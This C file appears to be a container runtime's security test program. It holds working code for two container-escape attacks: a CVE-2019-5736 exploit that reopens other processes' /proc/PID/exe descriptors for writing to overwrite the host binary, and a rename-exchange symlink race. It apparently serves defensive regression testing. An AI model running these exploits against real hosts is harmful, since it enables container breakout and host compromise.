/* attack.c: the test program's attacks, run inside a container by
 * tests/integration/security.sh.  Each does what an escaping container
 * would, against files the test owns, and prints what it managed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <linux/fs.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "tools.h"

struct held {
  int fd;
  pid_t pid;
  dev_t dev;
  ino_t ino;
  int refused; /* errno of the last reopen for writing */
};

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int is_ours(const struct stat *st, const struct stat *own, int nown) {
  for (int i = 0; i < nown; i++)
    if (own[i].st_dev == st->st_dev && own[i].st_ino == st->st_ino) return 1;
  return 0;
}

/* exe-hunt FIFO SECONDS: CVE-2019-5736.  Take an O_PATH fd on the
 * executable of every other process that shows up (not one of the
 * container's own files), open FIFO for reading once something is held
 * (a runtime process of the test blocks on writing it until then), and
 * once the process is gone reopen the fd for writing and append a marker.
 * Prints "held PID", "wrote PID", "refused PID: ERR", then a summary. */
static int exe_hunt(const char *fifo, double seconds) {
  struct stat own[3];
  int nown = 0;
  const char *mine[] = {"/proc/self/exe", "/bin/busybox", "/testprog"};
  for (size_t i = 0; i < 3; i++)
    if (stat(mine[i], &own[nown]) == 0) nown++;
  struct held held[64];
  int nheld = 0, wrote = 0, fifo_fd = -1;
  double end = now() + seconds;
  while (now() < end && !wrote) {
    DIR *d = opendir("/proc");
    if (!d) {
      perror("exe-hunt: /proc");
      return 2;
    }
    struct dirent *de;
    while ((de = readdir(d)) && nheld < 64) {
      pid_t pid = atoi(de->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof(path), "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      int dup = fstat(fd, &st) < 0 || is_ours(&st, own, nown);
      for (int i = 0; i < nheld && !dup; i++)
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) dup = 1;
      if (dup) {
        close(fd);
        continue;
      }
      held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
      printf("held %d\n", pid);
    }
    closedir(d);
    if (nheld && fifo_fd < 0) fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fifo_fd >= 0) {
      char buf[4096];
      while (read(fifo_fd, buf, sizeof(buf)) > 0) {
      }
    }
    for (int i = 0; i < nheld; i++) {
      char path[64];
      snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0) {
        if (write(w, "\nPWNED by the container\n", 24) == 24) {
          printf("wrote %d\n", held[i].pid);
          wrote++;
        } else if (held[i].refused != errno) {
          held[i].refused = errno;
          printf("refused %d: write: %s\n", held[i].pid, strerror(errno));
        }
        close(w);
      } else if (errno != ETXTBSY && held[i].refused != errno) {
        held[i].refused = errno;
        printf("refused %d: %s\n", held[i].pid, strerror(errno));
      }
    }
    usleep(200);
  }
  printf("exe-hunt: held %d, wrote %d\n", nheld, wrote);
  return 0;
}

/* swap-loop A B SECONDS [TARGET]: exchange two names (renameat2
 * RENAME_EXCHANGE) as fast as it can, as a container sharing a rootfs
 * would during another's create; with TARGET, whichever of the two is not
 * a symlink to TARGET is made one again first (a runtime that replaces
 * what it finds does not end the attack).  Prints how many it made. */
static int swap_loop(const char *a, const char *b, double seconds, const char *target) {
  double end = now() + seconds;
  long n = 0, failed = 0, planted = 0;
  while (now() < end) {
    for (int i = 0; i < 200; i++) {
      if (target) {
        struct stat sa, sb;
        int la = lstat(a, &sa) == 0 && S_ISLNK(sa.st_mode), lb = lstat(b, &sb) == 0 && S_ISLNK(sb.st_mode);
        if (!la && !lb && (unlink(b) == 0 || errno == ENOENT) && symlink(target, b) == 0) planted++;
      }
      if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) n++;
      else failed++;
    }
  }
  printf("swap-loop: %ld exchanges, %ld refused, %ld symlinks planted again\n", n, failed, planted);
  return 0;
}

int attack_main(const char *mode, int argc, char **argv) {
  if (!strcmp(mode, "exe-hunt") && argc > 3) return exe_hunt(argv[2], atof(argv[3]));
  if (!strcmp(mode, "swap-loop") && argc > 4) return swap_loop(argv[2], argv[3], atof(argv[4]), argc > 5 ? argv[5] : NULL);
  return -1;
}
